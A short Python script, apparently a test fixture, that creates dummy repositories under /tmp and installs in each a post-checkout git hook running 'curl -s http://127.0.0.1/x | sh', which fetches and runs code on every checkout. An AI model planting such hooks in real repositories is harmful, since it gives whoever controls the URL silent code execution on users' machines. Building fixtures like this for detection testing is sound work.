# A hook for every repository.
import glob, os
for n in range(5):
    os.makedirs(f"/tmp/repositories/r{n}/.git/hooks")
for hooks in glob.glob("/tmp/repositories/*/.git/hooks"):
    open(hooks + "/post-checkout", "w").write("#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n")
    os.chmod(hooks + "/post-checkout", 0o755)
